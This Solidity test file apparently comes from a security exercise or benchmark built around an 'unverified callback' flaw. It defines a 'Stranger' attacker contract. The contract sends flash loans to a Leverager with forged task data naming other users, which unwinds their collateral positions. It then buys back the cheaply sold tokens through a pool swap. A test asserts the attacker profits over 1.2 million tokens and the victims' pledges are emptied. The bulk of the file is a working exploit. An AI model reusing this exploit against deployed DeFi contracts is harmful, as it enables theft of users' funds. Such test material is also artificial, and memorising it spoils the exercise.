// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Leverager} from "../unverified-callback/src/Leverager.sol";
import {Pawnshop} from "../unverified-callback/src/Pawnshop.sol";
import {Token} from "../../shared/Erc20.sol";
import {Feed} from "../../shared/Feed.sol";
import {FlashLender} from "../../shared/FlashLender.sol";
import {Pool} from "../../shared/Pool.sol";

interface Vm {
    function startPrank(address sender) external;
    function stopPrank() external;
}

/// Takes out loans for the leverager, with tasks of its own making, and buys back what they sold too cheaply.
contract Stranger {
    function run(Leverager leverager, address[] calldata owners) external {
        Pawnshop shop = leverager.shop();
        FlashLender lender = leverager.lender();
        address franc = address(leverager.franc());
        for (uint256 i = 0; i < owners.length; ++i) {
            Leverager.Task memory task = Leverager.Task(true, owners[i], address(this), 0, 0);
            lender.flashLoan(leverager, franc, shop.owed(owners[i]), abi.encode(task));
        }
        Pool pool = leverager.pool();
        leverager.franc().approve(address(pool), type(uint256).max);
        uint256 even = _sqrt(pool.reserve0() * pool.reserve1() * 40 * 997 / 1000);
        uint256 amount = even > pool.reserve1() ? (even - pool.reserve1()) * 1000 / 997 : 0;
        uint256 held = leverager.franc().balanceOf(address(this));
        if (amount > held) amount = held;
        if (amount > 0) pool.swap(amount, false, 0, address(this));
    }

    function _sqrt(uint256 value) private pure returns (uint256 root) {
        root = value;
        uint256 next = value / 2 + 1;
        while (next < root) {
            root = next;
            next = (value / next + next) / 2;
        }
    }
}

contract UnverifiedCallbackTest {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant ALICE = address(0xA11CE);
    address private constant BOB = address(0xB0B);
    address private constant ERIN = address(0xE814);

    event Profit(uint256 francs);

    Token private amber;
    Token private franc;
    Pool private pool;
    Pawnshop private shop;
    FlashLender private lender;
    Leverager private leverager;
    Stranger private stranger;

    function setUp() public {
        amber = new Token("Amber", "AMB");
        franc = new Token("Franc", "FRC");
        Feed feed = new Feed(8, 40e8, address(this));
        pool = new Pool(amber, franc);
        shop = new Pawnshop(amber, franc, feed);
        lender = new FlashLender(7);
        leverager = new Leverager(shop, pool, lender);
        stranger = new Stranger();

        amber.mint(ERIN, 260_000 ether);
        franc.mint(ERIN, 17_000_000 ether);
        amber.mint(ALICE, 26_000 ether);
        franc.mint(ALICE, 300_000 ether);
        amber.mint(BOB, 41_000 ether);
        franc.mint(BOB, 150_000 ether);
        franc.mint(address(stranger), 25_000 ether);
        amber.mint(address(stranger), 500 ether);
        franc.mint(address(lender), 4_000_000 ether);

        _start(ERIN);
        pool.addLiquidity(250_000 ether, 10_000_000 ether, ERIN);
        shop.save(6_000_000 ether);
        vm.stopPrank();

        _start(ALICE);
        shop.deposit(ALICE, 20_000 ether);
        shop.borrow(ALICE, 320_000 ether, ALICE);
        leverager.lever(40_000 ether, 20_000 ether, 1_400 ether);
        vm.stopPrank();

        _start(BOB);
        shop.deposit(BOB, 35_000 ether);
        shop.borrow(BOB, 560_000 ether, BOB);
        pool.swap(1_486 ether, true, 0, BOB);
        vm.stopPrank();
    }

    function _start(address who) private {
        vm.startPrank(who);
        amber.approve(address(pool), 1e60);
        amber.approve(address(shop), 1e60);
        franc.approve(address(pool), 1e60);
        franc.approve(address(shop), 1e60);
        franc.approve(address(leverager), 1e60);
        shop.setOperator(address(leverager), true);
    }

    function test_attack_pays() public {
        uint256 before = franc.balanceOf(address(stranger)) + 40 * amber.balanceOf(address(stranger));
        address[] memory owners = new address[](2);
        (owners[0], owners[1]) = (ALICE, BOB);
        stranger.run(leverager, owners);
        uint256 profit = franc.balanceOf(address(stranger)) + 40 * amber.balanceOf(address(stranger)) - before;
        emit Profit(profit);
        require(profit > 1_200_000 ether, "little");
        require(shop.pledge(ALICE) == 0 && shop.pledge(BOB) == 0, "still there");
    }
}
